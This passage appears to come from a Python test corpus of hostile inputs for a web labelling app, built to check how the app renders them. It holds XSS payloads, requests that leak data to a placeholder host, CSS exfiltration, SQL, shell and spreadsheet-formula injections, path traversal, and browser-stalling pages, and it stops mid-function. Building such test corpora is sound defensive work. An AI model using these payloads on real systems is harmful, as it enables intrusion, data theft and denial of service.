"""A corpus of hostile texts, by family: what somebody may put into any field or file.

In a payload ``HIT`` stands for code that reports itself, ``HOST`` for a server that nobody
should ask. Written for this project, after the ways in which browsers, Markdown, Streamlit,
Plotly and spreadsheets are known to read more into a text than its letters.
"""

from collections.abc import Sequence
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One hostile text and the family that it belongs to."""

    family: str
    text: str


_SCRIPTS = (
    "<script>HIT</script>",
    "<ScRiPt>HIT</sCrIpT>",
    "<script >HIT</script >",
    "<script/x=1>HIT</script>",
    "<script\n>HIT</script\n>",
    "<script src=//HOST/s1></script>",
    '<script src="http://HOST/s2.js" async></script>',
    "<script type=module>HIT</script>",
    "<script type=module src=//HOST/s3.js></script>",
    "<script>import('//HOST/s4.js')</script>",
    "<script>fetch('//HOST/s5')</script>",
    "<script>navigator.sendBeacon('//HOST/s6')</script>",
    "<script>new Image().src='//HOST/s7'</script>",
    "<script>new WebSocket('ws://HOST/s8')</script>",
    "<script>open('//HOST/s9')</script>",
    "<script>top.location='//HOST/s10'</script>",
    "<script>parent.HIT</script>",
    '"><script>HIT</script>',
    "'><script>HIT</script>",
    "</title><script>HIT</script>",
    "</textarea><script>HIT</script>",
    "</style><script>HIT</script>",
    "</script><script>HIT</script>",
    "--><script>HIT</script>",
    "]]><script>HIT</script>",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    "<<script>HIT//<</script>",
    "<noscript><p title='</noscript><img src=x onerror=HIT>'>",
    "<template><script>HIT</script></template>",
    "<p><template shadowrootmode=open><script>HIT</script><img src=x onerror=HIT></template>",
    '<script type=importmap>{"imports":{"x":"//HOST/s11"}}</script>'
    "<script type=module>import 'x'</script>",
    '<script type=speculationrules>{"prefetch":[{"urls":["http://HOST/s12"]}]}</script>',
    "<script nonce='' integrity='' src=//HOST/s13></script>",
    "<script>parent.postMessage('x','*');navigator.serviceWorker.register('//HOST/s14');HIT</script>",
    "<noscript><img src=//HOST/s15></noscript><noscript><style>*{color:red}</style></noscript>",
    "<style><!--</style><script>HIT//--></script>",
    "<select><template><script>HIT</script></template></select><svg></p><style><a id='</style>"
    "<img src=x onerror=HIT>'>",
)

_HANDLERS = (
    "<img src=x onerror=HIT>",
    "<img src=x onerror='HIT'>",
    '<img src=x onerror="HIT"//',
    "<img/src=x/onerror=HIT>",
    "<IMG SRC=x ONERROR=HIT>",
    "<img\tsrc=x\tonerror=HIT>",
    "<img\nsrc=x\nonerror=HIT>",
    "<img src=x onerror=&#95;&#95;hit&#40;1&#41;>",
    "<img src=x onerror=\\u005f_hit(1)>",
    "<img srcset='x 1x' onerror=HIT>",
    "<image src=x onerror=HIT>",
    "<picture><source srcset=//HOST/h1><img onerror=HIT src=x></picture>",
    "<body onload=HIT>",
    "<body onpageshow=HIT>",
    "<style onload=HIT></style>",
    "<link rel=stylesheet href=//HOST/h2 onerror=HIT>",
    "<iframe onload=HIT></iframe>",
    "<object data=x onerror=HIT></object>",
    "<embed src=x onerror=HIT>",
    "<video src=x onerror=HIT></video>",
    "<video><source onerror=HIT></video>",
    "<audio src=x onerror=HIT autoplay></audio>",
    "<video poster=//HOST/h3></video>",
    "<track src=//HOST/h4>",
    "<input autofocus onfocus=HIT>",
    "<select autofocus onfocus=HIT></select>",
    "<textarea autofocus onfocus=HIT></textarea>",
    "<p tabindex=1 autofocus onfocus=HIT>focus</p>",
    "<p contenteditable autofocus onfocus=HIT>edit</p>",
    "<details open ontoggle=HIT><summary>more</summary></details>",
    "<marquee onstart=HIT>run</marquee>",
    "<b onmouseover=HIT>over</b>",
    "<b onpointerenter=HIT>enter</b>",
    "<b onclick=HIT>click</b>",
    "<button onclick=HIT>press</button>",
    "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=HIT>a</b>",
    "<b style='animation:x' onanimationend=HIT onwebkitanimationend=HIT>a</b>",
    "<b id=p popover onbeforetoggle=HIT>p</b><button popovertarget=p>open</button>",
    "<dialog open onclose=HIT><form method=dialog><button>shut</button></form></dialog>",
    "x' onmouseover='HIT",
    'x" onfocus="HIT" autofocus="',
    "x onload=HIT ",
    "` onerror=HIT `",
)

_ADDRESSES = (
    "javascript:HIT",
    "JaVaScRiPt:HIT",
    "java\tscript:HIT",
    "java\nscript:HIT",
    "\x01javascript:HIT",
    "javascript://%0aHIT",
    "javascript:/*--></title>*/HIT",
    "vbscript:msgbox(1)",
    "<a href=javascript:HIT>go</a>",
    "<a href='java&#115;cript:HIT'>go</a>",
    "<a href='&#x6A;avascript:HIT'>go</a>",
    "<a href='java&Tab;script:HIT'>go</a>",
    "<a href=' javascript:HIT'>go</a>",
    "<a href=//HOST/a1 target=_top>top</a>",
    "<a href=//HOST/a2 target=_blank>new</a>",
    "<a href=//HOST/a3 ping=//HOST/a4>ping</a>",
    "<a href=//HOST/a5 download>take</a>",
    "<area href=javascript:HIT>",
    "<map name=m><area shape=default href=//HOST/a6></map><img usemap=#m src=data:,>",
    "data:text/html,<script>HIT</script>",
    "data:text/html;base64,PHNjcmlwdD5fX2hpdCgxKTwvc2NyaXB0Pg==",
    "<a href='data:text/html,<script>HIT</script>'>data</a>",
    "<iframe src='data:text/html,<script>parent.HIT</script>'></iframe>",
    "<object data='data:text/html,<script>HIT</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=HIT>'>",
    "<script src='data:,HIT'></script>",
    "<link rel=stylesheet href='data:text/css,@import url(//HOST/a7)'>",
    "http://HOST/a8",
    "https://HOST/a9",
    "//HOST/a10",
    "\\\\HOST\\a11",
    "file:///etc/passwd",
    "blob:http://HOST/a12",
    "ftp://HOST/a13",
)

_DRAWINGS = (
    "<svg onload=HIT>",
    "<svg/onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<svg><script href=//HOST/d1></script></svg>",
    "<svg><script xlink:href=//HOST/d2></script></svg>",
    "<svg><a href=javascript:HIT><text y=20>go</text></a></svg>",
    "<svg><a xlink:href=javascript:HIT><text y=20>go</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:HIT /><text y=20>go</text></a></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s></svg>",
    "<svg><set attributeName=x onbegin=HIT to=1></svg>",
    "<svg><image href=//HOST/d3 /></svg>",
    "<svg><use href=//HOST/d4#x /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=HIT />#x' /></svg>",
    "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
    "<svg><style>*{background:url(//HOST/d5)}</style></svg>",
    "<svg><filter><feImage href=//HOST/d6 /></filter></svg>",
    "<svg><desc><![CDATA[</desc><script>HIT</script>]]></svg>",
    "<svg><title><style><img src=x onerror=HIT></style></title></svg>",
    "<math><mtext><img src=x onerror=HIT></mtext></math>",
    "<math href=javascript:HIT>go</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:HIT>go</maction></math>",
    "<math><mi><mglyph><svg><mtext><style><img src=x onerror=HIT></style></mtext></svg></mglyph>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=HIT></annotation-xml></math>",
    "<math><semantics><mi>x</mi><annotation xlink:href=//HOST/d7>y</annotation></semantics></math>",
)

_HEADS = (
    "<meta http-equiv=refresh content='0;url=//HOST/m1'>",
    "<meta http-equiv=refresh content='0;url=javascript:HIT'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>HIT</script>'>",
    "<META HTTP-EQUIV='REFRESH' CONTENT='0.1; URL=http://HOST/m2'>",
    "<meta http-equiv=set-cookie content='dissent_session=stolen'>",
    '<meta http-equiv=content-security-policy content="default-src *">',
    "<meta name=referrer content=unsafe-url><img src=//HOST/m3>",
    "<base href=//HOST/m4/>",
    "<base href=javascript:HIT//>",
    "<base target=_top>",
    "<link rel=stylesheet href=//HOST/m5>",
    "<link rel=preload as=script href=//HOST/m6>",
    "<link rel=prefetch href=//HOST/m7>",
    "<link rel=preconnect href=//HOST>",
    "<link rel=dns-prefetch href=//HOST>",
    "<link rel=modulepreload href=//HOST/m8>",
    "<link rel=icon href=//HOST/m9>",
    "<link rel=manifest href=//HOST/m10>",
    "<title>Sign in again</title>",
    "<meta http-equiv=x-dns-prefetch-control content=on><a href=http://HOST/m11>name</a>",
    "<meta http-equiv=default-style content=x><meta http-equiv=accept-ch content=dpr>",
    "<meta http-equiv=origin-trial content=x><meta name=monetization content=//HOST/m12>",
    "<link rel='alternate stylesheet' title=x href=//HOST/m13>",
    "<link rel=preload as=image imagesrcset='//HOST/m14 1x'>",
    "<link rel=preload as=font crossorigin href=//HOST/m15>",
    "<link rel=prerender href=//HOST/m16><link rel=next href=//HOST/m17>",
    "<link rel=apple-touch-icon href=//HOST/m18><link rel=search href=//HOST/m19>",
    "<link rel=compression-dictionary href=//HOST/m20><link rel=import href=//HOST/m21>",
    "<svg><style>@import '//HOST/m22'</style></svg><html manifest=//HOST/m23>",
    "<meta http-equiv=refresh content='0;url=/sign-in'>",
    "<meta http-equiv=refresh content='0;url=#dissent-9'>",
)

_STYLES = (
    "<style>body{display:none}</style>",
    "<style>@import url(//HOST/c1);</style>",
    "<style>@import '//HOST/c2';</style>",
    "<style>*{background:url(//HOST/c3)}</style>",
    "<style>input[value^=a]{background:url(//HOST/c4)}</style>",
    "<style>@font-face{font-family:f;src:url(//HOST/c5)}*{font-family:f}</style>",
    "<style>body::after{content:url(//HOST/c6)}</style>",
    "<style>*{cursor:url(//HOST/c7),auto}</style>",
    "<style>*{background:image-set(url(//HOST/c8) 1x)}</style>",
    "<b style='background:url(//HOST/c9)'>b</b>",
    "<b style=\"background:url('//HOST/c10')\">b</b>",
    "<b style='list-style:url(//HOST/c11);display:list-item'>b</b>",
    "<b style='position:fixed;inset:0;z-index:99999;background:#fff'>cover</b>",
    "<b style='behavior:url(//HOST/c12);width:expression(HIT)'>b</b>",
    "<table background=//HOST/c13><tr><td>t</table>",
    "<body background=//HOST/c14>",
    "}*{background:url(//HOST/c15)}",
    "<style>@import url(//HOST/c16) layer(x) supports(display:grid) screen;</style>",
    "<style>@font-face{font-family:g;src:url(//HOST/c17);unicode-range:U+41-5A}*{font-family:g}</style>",
    "<style>@font-face{font-family:h;src:url(data:font/woff2,x),url(//HOST/c18)}"
    "*{font-family:h;font-variant-ligatures:common-ligatures}</style>",
    "<style>@namespace url(//HOST/c19);@page{background:url(//HOST/c20)}</style>",
    "<style>@media print{*{background:url(//HOST/c21)}}*{color:red}</style>",
    "<style>*{mask:url(//HOST/c22);-webkit-mask-image:url(//HOST/c23)}</style>",
    "<style>*{border-image:url(//HOST/c24) 1;shape-outside:url(//HOST/c25);float:left}</style>",
    "<style>*{clip-path:url(//HOST/c26#x);filter:url(//HOST/c27#x);"
    "offset-path:url(//HOST/c28#x)}</style>",
    "<style>*{background:cross-fade(url(//HOST/c29),url(//HOST/c30),50%)}</style>",
    "<style>*{background:-webkit-image-set(url(//HOST/c31) 1x);--x:url(//HOST/c32);"
    "list-style-image:var(--x)}</style>",
    "<style>a:visited{background:url(//HOST/c33)}a{color:red}</style><a href=/judge>seen?</a>",
    "<style>mark[id^=dissent]{background:url(//HOST/c34)}x-place:target{content:url(//HOST/c35)}</style>",
    "<style>body[tabindex='0'] mark:first-of-type{border-image-source:url(//HOST/c36)}</style>",
    "<style>@view-transition{navigation:auto}::view-transition{background:url(//HOST/c37)}</style>",
    "<style>*{content-visibility:auto;contain-intrinsic-size:9e9px;cursor:url(//HOST/c38),none}</style>",
    "<style>@property --u{syntax:'<url>';inherits:true;initial-value:url(//HOST/c39)}"
    "*{background:var(--u)}</style>",
    "<style>@counter-style c{system:cyclic;symbols:url(//HOST/c40)}li{list-style:c}</style><li>x",
    "<svg><rect width=9 height=9 fill='url(//HOST/c41#x)' mask='url(//HOST/c42#x)'"
    " marker-end='url(//HOST/c43#x)' /></svg>",
    "<b data-u=//HOST/c44 style='background:attr(data-u type(<url>));background:src(//HOST/c45)'>",
    "<style>*{-moz-binding:url(//HOST/c46);background:element(#x);"
    "background:-moz-element(#x)}</style>",
    "<div style='position:fixed;inset:0;z-index:2147483647;background:#fff;pointer-events:auto'>"
    "<button accesskey=1>1 Not relevant</button><button>2 Relevant</button></div>",
    "<style>html,body{position:fixed;inset:-99vh -99vw;width:300vw;height:300vh;"
    "transform:scale(9);overflow:hidden!important}</style>",
    "<style>x-place,x-places,mark{display:none!important}html{scroll-behavior:smooth}</style>",
)

_FRAMES = (
    "<iframe src=//HOST/f1></iframe>",
    "<iframe src=javascript:parent.HIT></iframe>",
    "<iframe srcdoc='<script>parent.HIT</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.HIT&gt;'></iframe>",
    "<iframe sandbox='allow-scripts allow-top-navigation' src=//HOST/f2></iframe>",
    "<iframe allow='camera *; clipboard-read *' src=//HOST/f3></iframe>",
    "<frameset><frame src=//HOST/f4></frameset>",
    "<object data=//HOST/f5></object>",
    "<object type=text/html data=//HOST/f6></object>",
    "<embed src=//HOST/f7>",
    "<applet code=x archive=//HOST/f8></applet>",
    "<portal src=//HOST/f9></portal>",
    "<fencedframe src=//HOST/f10></fencedframe>",
    "<form action=//HOST/f11><button autofocus>go on</button></form>",
    "<form action=javascript:HIT><button>go on</button></form>",
    "<form method=post action=/leave><button>go on</button></form>",
    "<form id=g action=//HOST/f12></form><button form=g>go on</button>",
    "<form><button formaction=javascript:HIT>go on</button></form>",
    "<form><input type=image src=//HOST/f13 formaction=//HOST/f14></form>",
    "<form><input type=submit formaction=//HOST/f15 formtarget=_top></form>",
    "<form name=body><input name=innerHTML><input id=cookie></form>",
    "<isindex action=//HOST/f16>",
    "<keygen autofocus onfocus=HIT>",
    "<x-frame onfocus=HIT tabindex=1 autofocus>x</x-frame>",
    "<form action=//HOST/f17 target=_parent><input name=q value=x><button>go on</button></form>",
    "<form action=//HOST/f18 target=judge method=post><button formtarget=_blank>go</button></form>",
    "<form method=dialog action=//HOST/f19><button formaction=//HOST/f20>go on</button></form>",
    "<form action=mailto:somebody@HOST.example><button>go on</button></form>",
    "<a href=//HOST/f21 target=_parent>parent</a>",
    "<a href=//HOST/f22 target=judge rel=opener>named</a>",
    "<a href=/judge target=_top>to the top</a>",
    "<a href=/sign-in target=_parent>sign in</a>",
    "<a href='data:text/plain,x' download=x.txt>take</a>",
    "<a href=/static/favicon.png download>take</a>",
    "<a href='data:application/octet-stream,x'>take</a>",
    "<a href=//HOST/f23 attributionsrc=//HOST/f24>ad</a><img attributionsrc=//HOST/f25 src=data:,>",
    "<svg><a href=//HOST/f26 target=_top><text y=20>go</text></a></svg>",
    "<map name=n><area shape=rect coords=0,0,99,99 href=//HOST/f27 target=_top></map>"
    "<img usemap=#n width=99 height=99 src=data:,>",
    "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>top.HIT</script>'></iframe>",
    "<iframe name=inner></iframe><a href=javascript:HIT target=inner>inside</a>",
    "<iframe src='about:blank#' csp='' credentialless></iframe><controlledframe src=//HOST/f28>",
    "<object data='#'></object><object data=about:srcdoc></object>",
)

_MEDIA = (
    "<video src=//HOST/n1 autoplay muted loop></video>",
    "<audio src=//HOST/n2 preload=auto controls></audio>",
    "<video controls><source src=//HOST/n3><track default src=//HOST/n4></video>",
    "<picture><source srcset='//HOST/n5 1x, //HOST/n6 2x'><img src=//HOST/n7></picture>",
    "<img srcset='//HOST/n8 1w, //HOST/n9 999w' sizes=100vw>",
    "<img src=//HOST/n10 lowsrc=//HOST/n11 longdesc=//HOST/n12 loading=eager fetchpriority=high>",
    "<img src=//HOST/n13 loading=lazy crossorigin referrerpolicy=unsafe-url>",
    "<input type=image src=//HOST/n14><input type=file webkitdirectory>",
    "<bgsound src=//HOST/n15><model src=//HOST/n16></model>",
    "<blockquote cite=//HOST/n17><q cite=//HOST/n18>x</q><ins cite=//HOST/n19>y</ins></blockquote>",
    "<object type=application/pdf data=//HOST/n20><param name=movie value=//HOST/n21></object>",
    "<embed type=image/svg+xml src=//HOST/n22>",
    "<svg><image xlink:href=//HOST/n23 /><feImage xlink:href=//HOST/n24 /></svg>",
    "<svg><audio src=//HOST/n25></audio><foreignObject><video src=//HOST/n26 /></svg>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="HIT">'
    '<image href="http://HOST/n27"/></svg>\'>',
    "<table background=//HOST/n28><td background=//HOST/n29>x</table>",
)

_KEYS = (
    "".join(f"<a href=#k{key} accesskey={key}>{key}</a>" for key in "123456789ulxcghn?opa"),
    "<button accesskey='1 2 3 4' autofocus>1</button>",
    "<input autofocus tabindex=1 accesskey=1 placeholder='Type here to go on'>",
    "<textarea autofocus tabindex=1 style='position:fixed;inset:0;width:99vw'></textarea>",
    "<div contenteditable=true autofocus style='position:fixed;inset:0'>Write here</div>",
    "<body contenteditable>Write anywhere",
    "<dialog open popover=manual autofocus tabindex=0><input autofocus>stay</dialog>",
    "".join(f"<input tabindex={place} value={place}>" for place in range(1, 60)),
    "<select autofocus size=9>" + "<option>1" * 9 + "</select>",
    "<input id=dissent-1><input id=dissent-3><input id=dissent-6><input id=dissent-hit-0>",
    "<a id=dissent-1 href=//HOST/o1>x</a><button id=dissent-3 autofocus>x</button>",
    "<details open name=x><summary tabindex=1 autofocus accesskey=1>s</summary></details>",
    "<a href=#end>to the end</a><p style='height:9000px'></p><p id=end tabindex=0>the end</p>",
    "<video controls tabindex=1 autofocus></video><audio controls></audio>",
    "<style>*{pointer-events:none;user-select:none}:focus,:target{scale:9}</style><a href=#>x</a>",
)

_NAMES = (
    *(
        f"<form><input name={name}><img name={name}>x</form>"
        for name in ("parentNode", "nodeName", "closest", "normalize")
    ),
    *(
        f"<form name={name}></form><img name={name}>x"
        for name in (
            "parentNode",
            "nodeName",
            "body",
            "createTreeWalker",
            "location",
            "defaultView",
        )
    ),
    "<a id=scrollY></a><a id=getSelection name=scrollBy></a><img name=innerHeight>",
    "<iframe name=contentDocument></iframe><embed name=documentElement><object name=scrollTo>",
    "<p id=x-places><mark id=dissent-hit-0></mark><mark></mark><x-place id=dissent-2>x</p>",
    "<!--dissent-text " + "0" * 64 + " PHNjcmlwdD4=--><p>x</p>",
)

_UNCLOSED = (
    "<!-- never closed",
    "<!--> <!---> <!--!> --!> <!-- <!-- --> <?x <![CDATA[ never closed",
    "<p title='never closed",
    '<p title="never closed > <script>HIT</script>',
    "<img src=x onerror=HIT title='",
    "<a href='//HOST/u1?",
    "<style>*{background:url('//HOST/u2?",
    "<script>HIT; /* never closed",
    "<textarea>never closed",
    "<title>never closed",
    "<noscript>never closed",
    "<plaintext>never closed",
    "<xmp><listing><noembed><noframes>never closed",
    "<template>never closed",
    "<select><option>never closed",
    "<svg><foreignObject><math><mtext>never closed",
    "</body></html></x-places></main></iframe><frameset>",
    "<table><tr><td><select><svg><desc><button><a href=#><a href=#><b><b>never closed",
)

_CHARSETS = (
    "<meta charset=utf-7>+ADw-script+AD4-HIT+ADw-/script+AD4-",
    "<meta http-equiv=content-type content='x;charset=utf-7'>+ADw-img src=x onerror=HIT+AD4-",
    "<meta charset=utf-16><p>utf-16",
    "<meta charset=iso-2022-jp><p title='\x1b$B'>x</p><img src=x title='onerror=HIT '>",
    "<meta charset=iso-2022-jp>\x1b$B<p>\x1b(B<script>HIT</script>",
    "<meta charset=x-user-defined><p>\uff1cscript\uff1eHIT",
    "<meta charset=gb18030><img title='\u0102' src=x onerror=HIT>",
    "<?xml version='1.0' encoding='utf-7'?><!doctype html [<!entity x '<script>HIT</script>'>]>&x;",
    "<?xml-stylesheet href='//HOST/w1' type='text/css'?><html xmlns='http://www.w3.org/1999/xhtml'>"
    "<script>HIT</script></html>",
    "<html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>HIT</x:script><x:img src=//HOST/w2 />",
    "<!doctype html PUBLIC '-//W3C//DTD XHTML 1.0//EN' '//HOST/w3'><script>HIT</script>",
    "\u00a0<!doctype html><script>HIT</script><img src=//HOST/w4>",
    "\v<!doctype html><meta http-equiv=content-security-policy content=''><img src=x onerror=HIT>",
)

_TEMPLATES = (
    "{{7*7}}",
    "{{constructor.constructor('HIT')()}}",
    "${HIT}",
    "`${HIT}`",
    "#{HIT}",
    "<%= HIT %>",
    "{% include 'secrets' %}",
    "{0.__class__.__mro__}",
    "{body}{error}{text}",
    "%s%s%n%(name)s",
    "%{customdata[0]}",
    "%{y}<extra>%{fullData.name}</extra>",
    "{x:.9999f}",
    "';HIT//",
    '";HIT//',
    "\\';HIT//",
    '\\";HIT//',
    "');HIT;//",
    "]});HIT;//",
    '","injected":"1',
    "\u2028HIT\u2029",
    "__proto__",
    "constructor",
    "toString",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/api/labels",
    "%2e%2e%2f%00",
    "'; DROP TABLE labels; --",
    "' OR '1'='1",
    "$(touch x)",
    "| touch x",
)

_MARKDOWN = (
    "[go](javascript:HIT)",
    "[go](java%0ascript:HIT)",
    "[go](//HOST/k1)",
    "[go](http://HOST/k2 'title')",
    "[go](data:text/html,<script>HIT</script>)",
    "![see](http://HOST/k3)",
    "![see](//HOST/k4 'title')",
    "[![see](http://HOST/k5)](http://HOST/k6)",
    "<http://HOST/k7>",
    "<javascript:HIT>",
    "http://HOST/k8 as it is",
    "www.HOST.example/k9",
    "somebody@HOST.example",
    "[go][1]\n\n[1]: http://HOST/k10",
    "![see][2]\n\n[2]: http://HOST/k11",
    "[^1]\n\n[^1]: [go](http://HOST/k12)",
    "# Not a heading",
    "Not a heading\n===",
    "> not a quotation",
    "- not a list",
    "1. not a list",
    "- [ ] not a box",
    "| not | a table |\n|---|---|\n| a | ![t](//HOST/k13) |",
    "    not code",
    "```\nnot code\n```",
    "`not code`",
    "**not bold** __nor this__",
    "*not italic* _nor this_ ~~nor struck~~",
    "***\n---\n___",
    "\\[go](http://HOST/k14)",
    "\\\\[go](http://HOST/k15)",
    "[a\\](b)[go](http://HOST/k16)",
    "<details><summary>s</summary>![t](//HOST/k17)</details>",
    "<!-- not hidden -->",
)

_STREAMLIT = (
    ":material/skull:",
    ":material/../../x:",
    ":streamlit:",
    ":red[not red]",
    ":blue-background[not blue]",
    ":green-badge[no badge]",
    ":rainbow[no rainbow]",
    ":small[not small]",
    ":gray[:material/skull: [go](http://HOST/t1)]",
    ":color[x]{foreground='red' background='url(//HOST/t2)'}",
    ":shortcut[Ctrl+C]",
    ":smile: :tada:",
    "$x^2$",
    "$$\\frac{a}{b}$$",
    "$\\href{javascript:HIT}{go}$",
    "$\\url{http://HOST/t3}$",
    "$\\includegraphics{http://HOST/t4}$",
    "$\\htmlStyle{background:url(//HOST/t5)}{x}$",
    "$\\htmlData{x=1}{\\htmlId{root}{x}}$",
    "$\\def\\a{\\a\\a}\\a$",
    "\\$ \\\\$x\\\\$",
    "<- not an arrow -> -- =>",
)

_ENCODINGS = (
    "&lt;script&gt;HIT&lt;/script&gt;",
    "&#60;script&#62;HIT&#60;/script&#62;",
    "&#x3c;img src=x onerror=HIT&#x3e;",
    "&lt;a href='http://HOST/e1'&gt;go&lt;/a&gt;",
    "&amp;lt;script&amp;gt;HIT",
    "%3Cscript%3EHIT%3C/script%3E",
    "%253Cscript%253EHIT",
    "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
    "\\x3cscript\\x3eHIT\\x3c/script\\x3e",
    "\\74script\\76HIT",
    "+ADw-script+AD4-HIT+ADw-/script+AD4-",
    "\uff1cscript\uff1eHIT\uff1c/script\uff1e",
    "\u02c2script\u02c3HIT\u02c2/script\u02c3",
    "\ufeff<script>HIT</script>",
    "<\u200bscript>HIT</\u200bscript>",
    "<scr\u00adipt>HIT</scr\u00adipt>",
    "\u00a0<img\u00a0src=x\u00a0onerror=HIT>",
    "<img src=x onerror\u3000=HIT>",
    "\u00bcscript\u00beHIT\u00bc/script\u00be",
    "\u202e<script>HIT</script>",
    "\u202egnp.exe\u202c",
    "\u2066\u2067rtl\u2069\u2069",
    "\u200fabc\u200e",
    "\u061c\u202b<b>x</b>\u202c",
    "Z\u0351\u036b\u0343\u0369\u0351\u0343" * 8,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3f4\U000e0067\U000e007f",
    "\ud7ff\ue000\uf8ff\ufffd\uffff",
    "\U000f0000\U0010ffff",
    "\x1b[2J\x1b]0;title\x07",
    "\x7f\x80\x9b2J",
    "\x0b\x0c\x1f\x85",
)

_FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    '=HYPERLINK("http://HOST/x1","go")',
    '=IMPORTXML("http://HOST/x2","//a")',
    '=WEBSERVICE("http://HOST/x3")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\uff1d1+1",
    '="a\n"&"b"',
)

_PLOTLY = (
    "<a href='http://HOST/p1'>go</a>",
    '<a href="//HOST/p2" target="_self">go</a>',
    "<a href='javascript:HIT' target='_self'>go</a>",
    "<b>not bold</b>",
    "<i>not italic</i>",
    "<u>not underlined</u><s>nor struck</s>",
    "not<br>two lines",
    "x<sub>no</sub><sup>no</sup>",
    "<span style='color:red;font-size:99px'>not red</span>",
    "<em>no</em><extra></extra>",
    "%{x}%{y:.3f}%{z|%d}",
    "&nbsp;&times;&#97;&lt;b&gt;",
    "$\\alpha$",
)

_HUGE = (
    "A" * 4_000,
    "<" * 1_500,
    "[" * 800,
    "*_" * 400,
    "<div>" * 300,
    "wide\u3000" * 200,
    "\n" * 200 + "end",
)

IN_PAGES = (
    *("script elements", "event handlers", "addresses", "SVG and MathML", "meta, base and link"),
    *("styles", "frames and forms", "pictures, sound and films", "keys and focus"),
    *("names of parts", "never closed", "alphabets and XML"),
)
"""The families of which a browser makes something in a page to be judged."""

_USES = "".join(f"<g id=u{n}>" + f"<use href=#u{n - 1} />" * 10 + "</g>" for n in range(1, 9))
_FADES = ",".join(f"{n}px {n}px 300px red" for n in range(500))
BOMBS = {
    "depth": "<div>" * 100_000 + "the end",
    "a table": "<table>" + "<tr><td>cats<td>dogs<td>1<td>2".ljust(34) * 150_000 + "</table>",
    "one word": "c" * 4_000_000,
    "blur": "<div style='width:30000px;height:30000px;filter:blur(500px);background:red'></div>"
    * 20,
    "layers": "<div style='position:fixed;inset:0;backdrop-filter:blur(99px)'></div>" * 500,
    "animations": "<style>@keyframes k{to{width:99%;rotate:9turn}}i{display:block;width:1%;"
    "animation:k .1s infinite}</style>" + "<i>x</i>" * 5_000,
    "values": "<style>b{--v0:xxxxxxxxxxxxxxxx;"
    + "".join(f"--v{n}:" + f"var(--v{n - 1}) " * 10 + ";" for n in range(1, 13))
    + "font-family:var(--v12)}b::after{content:var(--v12)}</style>"
    + "<b>b</b>" * 1_000,
    "selectors": "<style>"
    + "".join(f"div:has(* ~ * ~ b{n}) * * *{{color:#{n:03}}}" for n in range(200))
    + "</style>"
    + "<div><p><b>x</b></p></div>" * 5_000,
    "choices": "<select size=9>" + "<option>x" * 300_000,
    "noise": "<svg width=3000 height=3000><filter id=f><feTurbulence baseFrequency=.9 "
    "numOctaves=500 /></filter>" + "<rect width=3000 height=3000 filter=url(#f) />" * 50 + "</svg>",
}
"""Pages that take a browser long to draw, by what there is too much of."""

STANDSTILLS = {
    "a drawing of itself": f"<svg><defs><rect id=u0 width=9 height=9 />{_USES}</defs>"
    "<use href=#u8 /></svg>",
    "a grid": "<div style='display:grid;grid-template:repeat(10000,auto)/repeat(10000,1fr)'>"
    + "<b style='grid-area:1/1/-1/-1'>x</b>" * 2_000,
    "columns": "<div style='columns:1000;column-fill:balance'>" * 20 + "<p>cats</p>" * 5_000,
    "shadows": f"<p style='text-shadow:{_FADES}'>" + "cats " * 5_000,
}
"""Pages that a browser does not finish to draw within any time, in some process or other."""

FAMILIES = {
    "script elements": _SCRIPTS,
    "event handlers": _HANDLERS,
    "addresses": _ADDRESSES,
    "SVG and MathML": _DRAWINGS,
    "meta, base and link": _HEADS,
    "styles": _STYLES,
    "frames and forms": _FRAMES,
    "pictures, sound and films": _MEDIA,
    "keys and focus": _KEYS,
    "names of parts": _NAMES,
    "never closed": _UNCLOSED,
    "alphabets and XML": _CHARSETS,
    "templates, strings and paths": _TEMPLATES,
    "Markdown": _MARKDOWN,
    "Streamlit directives": _STREAMLIT,
    "encodings and directions": _ENCODINGS,
    "spreadsheet formulas": _FORMULAS,
    "Plotly markup": _PLOTLY,
    "huge": _HUGE,
}

SURROGATES = ('"\\ud83d"', '"\\ude00\\ud83d"', '"<b>\\udfff"', '"\\ud800\\ud800"', '"x\\udc80"')
"""Halves of characters as JSON writes them; no store and no page can hold one."""

_SWALLOWS = (
    *("<!--", "<textarea", "<title>", "<style", "<noscript", "<template", "]]>", "<frameset"),
    *("<script>__hit(1); /*", "<plaintext", "<xmp", "<select><option>never", "</body", "<p title"),
    *("<svg><foreignobject><math", "<table><tr><td><select", "<a href='//"),
    "<img src=x onerror=__hit(1) title='",
)
"""What may hide the text behind it from a browser, so it goes last."""


def make_payloads(host: str) -> tuple[Payload, ...]:
    """Return the corpus, with code that reports itself and a host that listens."""
    return tuple(
        Payload(family, text.replace("HIT", "__hit(1)").replace("HOST", host))
        for family, texts in FAMILIES.items()
        for text in texts
    )


def deal(payloads: Sequence[Payload], hands: int, turn: int = 0, mark: str = " ") -> list[str]:
    """Return so many texts that hold all payloads together.

    Parameters
    ----------
    turn : int
        How far to rotate the payloads, so that two fields of a row hold different ones.
    mark : str
        What stands between two payloads of a text.
    """
    turned = [*payloads[turn % len(payloads) :], *payloads[: turn % len(payloads)]]
    return [
        mark.join(one.text for one in sorted(turned[place::hands], key=_swallows))
